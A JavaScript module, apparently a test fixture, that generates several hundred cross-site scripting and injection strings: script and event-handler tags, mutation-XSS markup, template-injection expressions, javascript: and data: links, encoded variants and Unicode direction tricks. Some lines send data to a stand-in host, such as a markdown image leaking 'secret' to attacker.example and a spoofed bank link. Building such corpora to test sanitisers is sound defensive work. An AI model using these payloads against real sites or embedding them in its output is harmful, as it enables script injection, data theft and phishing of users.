// Hostile texts: markup, links, encodings and marks of direction, combined into several hundred. All call `pwned`.
const CALLS = ['pwned(1)', 'top.pwned(1)', 'alert(1)', 'eval("pwned(1)")', 'window["pw"+"ned"](1)'];
const MARKUP = [
  '<script>X</script>', '<ScRiPt>X</sCrIpT>', '</script><script>X</script>', '<img src=x onerror=X>', '<img src=x onerror="X">', '<img/src=x/onerror=X>', '"><img src=x onerror=X>',
  "'><svg onload=X>", '<svg onload=X>', '<svg><script>X</script></svg>', '<svg><animate onbegin=X attributeName=x dur=1s>', '<svg><a xlink:href="javascript:X"><text y=20>a</text></a></svg>',
  '<iframe src="javascript:X">', '<iframe srcdoc="<script>parent.X</script>">', '<object data="javascript:X">', '<embed src="javascript:X">', '<body onload=X>', '<details open ontoggle=X>',
  '<input autofocus onfocus=X>', '<select autofocus onfocus=X>', '<textarea autofocus onfocus=X>', '<video><source onerror=X>', '<audio src=x onerror=X>', '<marquee onstart=X>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=X&gt;">', '<noscript><p title="</noscript><img src=x onerror=X>">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=X>',
  '<template><img src=x onerror=X></template>', '<style>@import "javascript:X"</style>', '<link rel=stylesheet href="javascript:X">', '<meta http-equiv=refresh content="0;url=javascript:X">', '<base href="javascript:X//">',
  '<a href="javascript:X" autofocus onfocus=X>a</a>', '<a href="jav&#x09;ascript:X">a</a>', '<x onpointerenter=X>hover', '<div style="background:url(javascript:X)">', '<button popovertarget=p onclick=X>b</button><p popover id=p onbeforetoggle=X>',
  '&lt;script&gt;X&lt;/script&gt;', '&#60;img src=x onerror=X&#62;', '\\u003cimg src=x onerror=X\\u003e', '%3Cscript%3EX%3C/script%3E', '<<script>X//<</script>', '<scr<script>ipt>X</scr</script>ipt>', '<img src=`x`onerror=X>', "{{constructor.constructor('X')()}}", '${X}', '#{X}', '{@html "<img src=x onerror=X>"}', '<!--><img src=x onerror=X>-->', ']]><img src=x onerror=X>',
];
const LINKS = [
  'javascript:X', 'JaVaScRiPt:X', ' javascript:X', 'java\tscript:X', 'javascript://%0aX', 'javascript:X//http://a.example', 'data:text/html,<script>X</script>', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==', 'vbscript:X', 'blob:X', 'file:///etc/passwd',
  '[a](javascript:X)', '![a](javascript:X)', '[a](data:text/html,<script>X</script>)', '![leak](https://attacker.example/?q=secret)', '<https://attacker.example/pixel.png>', '<img src="https://attacker.example/x.png">', '[a]: javascript:X', 'https://a.example/"onmouseover="X', "https://a.example/'onmouseover='X", 'https://a.example/><img src=x onerror=X>', 'mailto:a@b.example?body=<script>X</script>', 'mailto:"<img src=x onerror=X>"@b.example',
];
const MARKS = ['\u202e<img src=x onerror=pwned(1)>\u202c', '\u2066https://bank.example@attacker.example\u2069', 'a\u0000b'.replace('\u0000', '\u2400'), '\ufeff<script>pwned(1)</script>', '\u200b<svg onload=pwned(1)>', '𝕏'.repeat(40), 'Z̸̡̢̛͇͎͍̪̳̘̥̻̱̈́̿̓̀'.repeat(30), '🏴‍☠️'.repeat(30)];

/** At least 300 distinct hostile texts. */
export const payloads = [...new Set([...[...MARKUP, ...LINKS].flatMap((shape) => CALLS.map((call) => shape.replaceAll('X', call))), ...MARKS])];
